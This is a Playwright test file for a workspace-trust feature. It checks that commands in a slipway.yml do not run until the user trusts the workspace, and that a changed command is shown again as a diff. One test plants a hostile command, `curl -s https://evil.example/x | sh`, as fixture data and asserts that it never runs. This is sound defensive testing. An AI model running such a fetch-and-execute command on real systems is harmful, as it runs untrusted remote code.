import { expect, test, type Page } from '@playwright/test'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { TestRepo } from '../src/main/testing/test-repo'
import { startServe, type ServeHost } from './serve-host'

// Workspace trust in the browser: a workspace whose slipway.yml has commands opens read-only
// with the commands shown; nothing runs until "Trust and run"; a change shows them again as a
// diff. Screenshots at 1280×720 and 1920×1080, light and dark, for review.

const SHOTS = 'e2e/screenshots'
const SIZES = [
  { width: 1280, height: 720 },
  { width: 1920, height: 1080 }
] as const

function yml(testCommand: string): string {
  return [
    'project: payments',
    `test: { command: "${testCommand}", setup: sh scripts/setup.sh, timeoutSeconds: 60 }`,
    'build: { command: npm ci && npm run build, artifact: dist }',
    'environments:',
    '  - name: staging',
    '    hosts: [{ local: .slipway/hosts/staging-1, port: 4301 }]',
    '    hooks: { afterActivate: ./deploy/restart.sh }',
    ''
  ].join('\n')
}

async function shoot(page: Page, name: string): Promise<void> {
  for (const size of SIZES) {
    await page.setViewportSize(size)
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      await page.screenshot({
        path: `${SHOTS}/trust-${name}-${size.width}x${size.height}-${colorScheme}.png`
      })
    }
  }
  await page.emulateMedia({ colorScheme: 'light' })
  await page.setViewportSize({ width: 1280, height: 720 })
}

test.describe('workspace trust', () => {
  let host: ServeHost
  let repo: TestRepo
  let marker: string
  test.beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true })
    marker = join(mkdtempSync(join(tmpdir(), 'slipway-trust-marker-')), 'ran')
    repo = TestRepo.create({
      files: { 'slipway.yml': yml(`touch '${marker}'`), 'scripts/setup.sh': 'echo ready\n' },
      prefix: 'slipway-trust-e2e-'
    })
    repo.commitTo('feature/PAY-12-refunds', { 'refunds.js': 'export {}\n' })
    host = await startServe(repo.path, { trust: false })
  })
  test.afterAll(async () => {
    await host?.stop()
    repo?.remove()
  })

  test('asks first, runs nothing until trusted, keyboard only', async ({ page }) => {
    await page.setViewportSize({ width: 1280, height: 720 })
    await page.goto(host.url)
    const dialog = page.getByTestId('trust-dialog')
    await expect(dialog).toBeVisible()
    await expect(dialog).toContainText('Trust this workspace?')
    await expect(dialog).toContainText(`touch '${marker}'`)
    await expect(dialog).toContainText('environments[staging].hooks.afterActivate')
    // Focus is inside the dialog; the board behind it cannot be reached with Tab.
    expect(await dialog.evaluate((d) => d.contains(d.ownerDocument.activeElement))).toBe(true)
    for (let i = 0; i < 5; i++) {
      await page.keyboard.press('Tab')
      expect(await dialog.evaluate((d) => d.contains(d.ownerDocument.activeElement))).toBe(true)
    }
    await shoot(page, 'dialog')

    // "Not now" (Escape): the board is read-only and says why nothing is tested.
    await page.keyboard.press('Escape')
    await expect(dialog).toBeHidden()
    const note = page.getByTestId('tests-untrusted').first()
    await expect(note).toBeVisible()
    await expect(page.getByTestId('branch-card').first()).toBeVisible()
    await shoot(page, 'read-only')
    expect(existsSync(marker)).toBe(false)

    // Back to the dialog from the note, then trust with the keyboard.
    await note.getByRole('button', { name: 'Review the commands…' }).focus()
    await page.keyboard.press('Enter')
    await expect(dialog).toBeVisible()
    const trust = dialog.getByRole('button', { name: 'Trust and run' })
    for (
      let i = 0;
      i < 4 && !(await trust.evaluate((b) => b === b.ownerDocument.activeElement));
      i++
    ) {
      await page.keyboard.press('Tab')
    }
    await expect(trust).toBeFocused()
    await page.keyboard.press('Enter')
    await expect(dialog).toBeHidden()
    await expect(page.getByTestId('tests-untrusted')).toHaveCount(0)
    await expect.poll(() => existsSync(marker), { timeout: 30_000 }).toBe(true)
  })

  test('a changed command is shown again, as a diff, before anything runs', async ({ page }) => {
    // The changed command leaves a marker of its own if it ever runs.
    const changed = `${marker}-changed`
    writeFileSync(
      join(repo.path, 'slipway.yml'),
      yml(`touch '${changed}'; curl -s https://evil.example/x | sh`)
    )
    await page.goto(host.url)
    // Re-open the workspace (as the picker does) so Slipway reads the new slipway.yml.
    const reopened = await page.evaluate(async (path) => {
      const res = await fetch('/api/invoke/workspace.open', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ path })
      })
      return res.status
    }, repo.path)
    expect(reopened).toBe(200)
    // Runs the previous test trusted may have touched the marker until the reopen stopped them.
    rmSync(marker, { force: true })
    const dialog = page.getByTestId('trust-dialog')
    await expect(dialog).toContainText('The commands of this workspace changed')
    await expect(dialog.locator('.trust-removed')).toContainText(`touch '${marker}'`)
    await expect(dialog.locator('.trust-added')).toContainText('curl -s https://evil.example/x')
    await shoot(page, 'changed')
    await page.keyboard.press('Escape')
    await expect(page.getByTestId('tests-untrusted').first()).toBeVisible()
    await page.waitForTimeout(2_000)
    expect(existsSync(marker)).toBe(false)
    expect(existsSync(changed)).toBe(false)
  })
})
